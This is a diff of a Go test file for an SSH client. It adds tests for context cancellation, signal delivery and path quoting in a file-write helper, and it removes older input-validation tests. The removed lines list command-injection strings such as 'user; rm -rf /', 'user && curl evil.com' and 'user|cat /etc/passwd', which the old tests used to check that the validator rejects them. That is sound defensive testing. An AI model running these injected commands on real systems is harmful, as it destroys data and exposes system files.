@@ -1,53 +1,109 @@
 package ssh
 
 import (
-	"strings"
+	"bytes"
+	"context"
+	"errors"
+	"io"
+	"sync"
 	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
 )
 
-func TestValidateSSHParam_ValidInputs(t *testing.T) {
-	validParams := []string{
-		"user",
-		"user_name",
-		"user123",
-		"host123",
-		"host_name",
-		"host123",
-		"u",
-		"user_name_123",
+// sleepHandler answers "sleep" until a signal arrives and echoes anything
+// else
+func sleepHandler(cmd string, ch ssh.Channel, signals <-chan string) uint32 {
+	if cmd != "sleep" {
+		io.WriteString(ch, cmd+"\n")
+		return 0
+	}
+	select {
+	case <-signals:
+		return 143
+	case <-time.After(5 * time.Second):
+		return 0
 	}
+}
+
+func TestClient_RunWithStdinContext(t *testing.T) {
+	client := connectTest(t, newTestServer(t, sleepHandler))
 
-	for _, param := range validParams {
-		err := validateSSHParam(param)
-		if err != nil {
-			t.Errorf("Expected valid param '%s' to pass validation, got error: %v", param, err)
-		}
+	result, err := client.RunWithStdinContext(context.Background(), "hello", nil)
+	if err != nil {
+		t.Fatalf("RunWithStdinContext() error = %v", err)
+	}
+	if result.Stdout != "hello\n" || result.ExitCode != 0 {
+		t.Errorf("RunWithStdinContext() = %+v, want hello with exit code 0", result)
 	}
 }
 
-func TestValidateSSHParam_InvalidInputs(t *testing.T) {
-	invalidParams := []struct {
-		param    string
-		contains string
-	}{
-		{"user; rm -rf /", ";"},
-		{"user && curl evil.com", "&&"},
-		{"user|cat /etc/passwd", "|"},
-		{"user`id`", "`"},
-		{"user$(whoami)", "$("},
-		{"-invalid", "must contain only alphanumeric characters"},
-		{"", "must contain only alphanumeric characters"},
-		{"a" + strings.Repeat("b", 100), "must contain only alphanumeric characters"},
-	}
-
-	for _, test := range invalidParams {
-		err := validateSSHParam(test.param)
-		if err == nil {
-			t.Errorf("Expected invalid param '%s' to fail validation", test.param)
-		}
-
-		if !strings.Contains(err.Error(), test.contains) {
-			t.Errorf("Expected error to contain '%s' for param '%s', got: %v", test.contains, test.param, err)
-		}
+func TestClient_RunWithStdinContext_Cancel(t *testing.T) {
+	server := newTestServer(t, sleepHandler)
+	client := connectTest(t, server)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	_, err := client.RunWithStdinContext(ctx, "sleep", nil)
+	if !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("RunWithStdinContext() error = %v, want deadline exceeded", err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("RunWithStdinContext() took %v, want it to return on cancellation", elapsed)
+	}
+
+	// The signal is sent before the session is closed
+	deadline := time.Now().Add(2 * time.Second)
+	for len(server.Signals()) == 0 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if signals := server.Signals(); len(signals) != 1 || signals[0] != string(ssh.SIGTERM) {
+		t.Errorf("server received signals %v, want [TERM]", signals)
+	}
+
+	// The connection is still usable
+	if _, err := client.Run("hello"); err != nil {
+		t.Errorf("Run() after cancellation error = %v", err)
+	}
+}
+
+func TestClient_RunStreamContext_Cancel(t *testing.T) {
+	client := connectTest(t, newTestServer(t, sleepHandler))
+
+	ctx, cancel := context.WithCancel(context.Background())
+	time.AfterFunc(100*time.Millisecond, cancel)
+
+	var stdout, stderr bytes.Buffer
+	if err := client.RunStreamContext(ctx, "sleep", &stdout, &stderr); !errors.Is(err, context.Canceled) {
+		t.Errorf("RunStreamContext() error = %v, want context canceled", err)
+	}
+}
+
+func TestClient_WriteFileContext(t *testing.T) {
+	var mu sync.Mutex
+	var gotCmd, gotContent string
+	server := newTestServer(t, func(cmd string, ch ssh.Channel, signals <-chan string) uint32 {
+		content, _ := io.ReadAll(ch)
+		mu.Lock()
+		gotCmd, gotContent = cmd, string(content)
+		mu.Unlock()
+		return 0
+	})
+	client := connectTest(t, server)
+
+	if err := client.WriteFileContext(context.Background(), "/tmp/my file", []byte("content")); err != nil {
+		t.Fatalf("WriteFileContext() error = %v", err)
+	}
+
+	mu.Lock()
+	defer mu.Unlock()
+	if gotCmd != "cat > '/tmp/my file'" {
+		t.Errorf("command = %q, want the path quoted", gotCmd)
+	}
+	if gotContent != "content" {
+		t.Errorf("content = %q, want %q", gotContent, "content")
 	}
 }